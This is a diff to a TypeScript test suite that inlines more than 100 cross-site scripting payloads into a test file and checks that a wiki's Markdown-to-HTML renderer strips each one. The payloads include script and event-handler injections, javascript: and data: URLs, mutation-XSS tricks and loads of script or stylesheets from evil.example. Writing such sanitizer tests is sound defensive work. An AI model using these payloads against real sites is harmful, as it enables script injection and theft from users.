@@ -5,8 +5,6 @@ import { expect } from 'chai'
 import fc from 'fast-check'
 import { Parser } from 'htmlparser2'
 import { plainText } from '../src/search/index/sections.ts'
-import { families } from './browser/support/payloads.ts'
-import { rounds } from './support/rounds.ts'
 
 const context: LinkContext = {
   addresses: makeWikiAddresses({
@@ -355,16 +353,161 @@ describe('HTML: rendering of Markdown', () => {
   })
 })
 
-/** Those that test/browser/sanitising.test.ts shows in a browser. */
-const FAMILIES = families()
-const PAYLOADS = FAMILIES.flatMap(({ payloads }) => payloads)
+const QUOTED = '"><script>alert(1)</script>'
+
+/** One payload per line; `§` is a line end within a payload. */
+const PAYLOADS = `
+<script>alert(1)</script>
+<ScRiPt >alert(1)</sCrIpT>
+<script src=//evil.example/x.js></script>
+<script/x>alert(1)</script>
+<<script>alert(1)//<</script>
+<scr<script>ipt>alert(1)</scr</script>ipt>
+<script>/*</script><script>*/alert(1)</script>
+<img src=x onerror=alert(1)>
+<img src=x:x onerror=alert(1)//
+<img/src=x/onerror=alert(1)>
+<img src="x" \tonerror§=alert(1)>
+<img src='x'onerror=alert(1)>
+<img """><script>alert(1)</script>">
+<img src=javascript:alert(1)>
+<img srcset="javascript:alert(1) 1x, x 2x">
+<img src=data:image/svg+xml;base64,PHN2Zz4=>
+<img style="background:url(javascript:alert(1))" src=a>
+<img src=a usemap=#m ismap longdesc=javascript:alert(1)>
+<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>
+<svg onload=alert(1)>
+<svg><script>alert(1)</script></svg>
+<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
+<svg><animate onbegin=alert(1) attributeName=x dur=1s>
+<svg><set attributeName=href to=javascript:alert(1)>
+<svg><use href="data:image/svg+xml,x#x"/></svg>
+<svg><foreignObject><iframe src=javascript:alert(1)>
+<svg><style><img src=x onerror=alert(1)></style></svg>
+<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
+<math><mi xlink:href="javascript:alert(1)">x</mi></math>
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
+<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
+<math href="javascript:alert(1)">x</math>
+<a href="javascript:alert(1)">x</a>
+<a href="JaVaScRiPt:alert(1)">x</a>
+<a href=" &#14; javascript:alert(1)">x</a>
+<a href="java&#9;script:alert(1)">x</a>
+<a href="java&Tab;script&colon;alert(1)">x</a>
+<a href="java&NewLine;script:alert(1)">x</a>
+<a href="&#106;&#97;&#118;&#97;&#115;cript:alert(1)">x</a>
+<a href="\\x01javascript:alert(1)">x</a>
+<a href="vbscript:msgbox(1)">x</a>
+<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
+<a href="blob:https://a.example/x">x</a>
+<a href="file:///etc/passwd">x</a>
+<a href="view-source:javascript:alert(1)">x</a>
+<a href="https://user:pass@evil.example/">x</a>
+<a href="//user:pass@evil.example/">x</a>
+<a href="https:javascript:alert(1)">x</a>
+<a href="mailto:a@b?body=${QUOTED}">x</a>
+<a href="x" ping="https://evil.example" download target=_top onfocus=alert(1) autofocus>x</a>
+<a href="x"onclick=alert(1)>x</a>
+<a href=\`javascript:alert(1)\`>x</a>
+<a id=x name=x tabindex=1 onfocus=alert(1)>x</a>
+<a href="https://en.wiki.example@evil.example/">x</a>
+[x](javascript:alert(1))
+[x](JAVASCRIPT&colon;alert(1))
+[x](javascript&#x3a;alert(1))
+[x](<java script:alert(1)>)
+[x](data:text/html,<script>alert(1)</script>)
+[x](x "${QUOTED}")
+[x](<x"onmouseover="alert(1)>)
+![x](javascript:alert(1))
+![${QUOTED}](x)
+![x](x" onerror="alert(1))
+<javascript:alert(1)>
+[x][r]§§[r]: javascript:alert(1)
+[${QUOTED}](x)
+# <img src=x onerror=alert(1)>
+# x" onmouseover="alert(1)
+<h1 id="x' onclick=alert(1)">x</h1>
+\`\`\`js" onclick="alert(1)§x§\`\`\`
+\`\`\`<script>§alert(1)§\`\`\`
+| a | b |§|---|---|§| <img src=x onerror=alert(1)> | ${QUOTED} |
+<iframe src=javascript:alert(1)></iframe>
+<iframe srcdoc="<script>alert(1)</script>"></iframe>
+<iframe><img src=x onerror=alert(1)></iframe>
+<object data=javascript:alert(1)></object>
+<embed src=javascript:alert(1)>
+<applet code=x></applet>
+<base href=https://evil.example/>
+<link rel=stylesheet href=//evil.example/x.css>
+<meta http-equiv=refresh content="0;url=javascript:alert(1)">
+<style>@import '//evil.example/x.css'</style>
+<style>*{background:url(javascript:alert(1))}</style>
+<div style="width:expression(alert(1))">x</div>
+<div style="position:fixed;inset:0">x</div>
+<div class="modal" id="app">x</div>
+<body onload=alert(1)>
+<html manifest=//evil.example/x>
+<form action=javascript:alert(1)><button>x</button></form>
+<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
+<input onfocus=alert(1) autofocus>
+<input type=image src=x onerror=alert(1)>
+<input type=checkbox onclick=alert(1)>
+<input type="checkbox" name="csrf" value="x" form="f">
+<isindex action=javascript:alert(1) type=image>
+<select autofocus onfocus=alert(1)><option><script>alert(1)</script></option></select>
+<textarea><img src=x onerror=alert(1)></textarea>
+<textarea autofocus onfocus=alert(1)>
+<keygen autofocus onfocus=alert(1)>
+<video><source onerror=alert(1)></video>
+<video src=javascript:alert(1) poster=javascript:alert(1) onloadstart=alert(1)></video>
+<audio src=x onerror=alert(1) autoplay>
+<details open ontoggle=alert(1)>x</details>
+<marquee onstart=alert(1)>x</marquee>
+<xmp><img src=x onerror=alert(1)></xmp>
+<plaintext><img src=x onerror=alert(1)>
+<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
+<noscript><p title="</noscript><img src=x onerror=alert(1)>">
+<noembed><img src=x onerror=alert(1)></noembed>
+<noframes><img src=x onerror=alert(1)></noframes>
+<template><script>alert(1)</script></template>
+<title><img src=x onerror=alert(1)></title>
+<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
+<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>
+<blockquote cite="javascript:alert(1)">x</blockquote>
+<q cite="data:x">x</q><ins cite=vbscript:x>x</ins>
+<!--<img src="--><img src=x onerror=alert(1)//">
+<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
+<![CDATA[<img src=x onerror=alert(1)>]]>
+<?xml-stylesheet href="javascript:alert(1)"?>
+<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
+&lt;script&gt;alert(1)&lt;/script&gt;
+&#60;script>alert(1)&#60;/script>
+<p title="${QUOTED}">x</p>
+<p __proto__=x constructor=y onclick=z>x</p>
+<constructor>x</constructor>
+<x onclick=alert(1)>x</x>
+<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
+<custom-element is=x>y</custom-element>
+<p dir="rtl\u202e" lang="x'onclick=y">x</p>
+<img src=x sizes="expression(alert(1))';x" srcset="//evil.example/a,javascript:x 2x">
+<a href="https://[::1]:99999/">x</a><a href="https://%zz/">y</a>
+<ol start="javascript:1" type="x"><li value="1e9">x</ol>
+<td colspan="99999999">x</td>
+<div>§§<script>§§alert(1)§§</script>§§</div>
+`
+  .trim()
+  .split('\n')
+  .map((line) => line.replaceAll('§', '\n'))
 
 describe('HTML: hostile Markdown gives only allowed HTML', () => {
-  for (const { title, payloads } of FAMILIES) {
-    it(title, () => {
-      for (const payload of payloads)
-        for (const markdown of [payload, `text ${payload} text`, `- ${payload}`, `${payload}\n${payload}`])
-          expect(violationsOf(html(markdown)), JSON.stringify(markdown)).to.deep.equal([])
+  it('has more than 80 payloads', () => {
+    expect(PAYLOADS.length).to.be.greaterThan(80)
+  })
+
+  for (const payload of PAYLOADS) {
+    it(JSON.stringify(payload), () => {
+      for (const markdown of [payload, `text ${payload} text`, `- ${payload}`, `${payload}\n${payload}`]) {
+        expect(violationsOf(html(markdown))).to.deep.equal([])
+      }
     })
   }
 
@@ -405,7 +548,7 @@ describe('HTML: hostile Markdown gives only allowed HTML', () => {
         expect(output.toLowerCase()).to.not.include('<script')
         expect(violationsOf(output)).to.deep.equal([])
       }),
-      { numRuns: rounds(100) },
+      { numRuns: 500 },
     )
   })
 
@@ -421,7 +564,7 @@ describe('HTML: hostile Markdown gives only allowed HTML', () => {
         const output = html(`<p><a href="${one}">x</a><img src="${one}" srcset="${two} 2x, ${one}"></p>`)
         expect(violationsOf(output)).to.deep.equal([])
       }),
-      { numRuns: rounds(100) },
+      { numRuns: 500 },
     )
   })
 })
